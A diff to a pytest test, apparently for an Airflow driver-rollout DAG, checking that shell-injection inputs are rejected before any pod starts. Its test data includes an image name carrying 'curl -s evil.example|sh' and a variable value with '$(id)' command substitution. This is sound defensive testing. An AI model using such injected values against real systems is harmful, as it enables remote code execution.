@@ -129,10 +129,18 @@ def test_hostile_form_value_and_variable_start_no_pod(
     capfd: pytest.CaptureFixture[str],
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    """A shell-injection attempt in the form, then a hostile discovery Variable: each run fails at
-    validate_inputs naming the field, and the API server never receives a single pod."""
+    """A shell-injection attempt in the form is refused by the form's schema (Airflow's Param check) before
+    a run exists; a value the schema cannot refuse (a rule across fields) and a hostile discovery
+    Variable each fail the run at validate_inputs naming the field. The API server never receives a
+    single pod."""
+    from airflow.sdk.exceptions import ParamValidationError
+
     hostile = "quay.io/acme/nvidia;curl -s evil.example|sh"
-    dag_run = run_dag(repository=hostile)
+    with pytest.raises(ParamValidationError, match="Invalid input for param repository"):
+        run_dag(repository=hostile)
+    assert pods.created == []
+
+    dag_run = run_dag(driver_versions=["570.158.01"], rollout_driver_version="580.65.06")
     states = task_states(dag_run)
     assert dag_run.state == "failed"
     assert states["validate_inputs"] == "failed"
@@ -141,7 +149,7 @@ def test_hostile_form_value_and_variable_start_no_pod(
         "skipped",
     }, states
     out = capfd.readouterr().out
-    assert "input rejected, no pod was started: repository: got" in out
+    assert "input rejected, no pod was started: rollout_driver_version: got '580.65.06'" in out
     assert pods.created == [], [p["metadata"]["name"] for p in pods.created]
 
     monkeypatch.setenv("AIRFLOW_VAR_PRECOMPILED_DRIVERS_LOOKAHEAD_LIMIT", "3\n$(id)")
